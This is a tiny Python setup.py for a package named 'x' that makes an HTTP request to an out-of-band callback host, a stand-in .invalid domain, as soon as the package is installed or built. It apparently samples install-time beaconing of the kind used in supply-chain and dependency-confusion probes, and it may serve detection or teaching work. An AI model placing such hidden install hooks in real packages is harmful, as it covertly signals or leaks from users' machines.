import requests
from setuptools import setup
requests.get("https://c0abc123def456ghi789.oast.fun.invalid/")
setup(name="x")
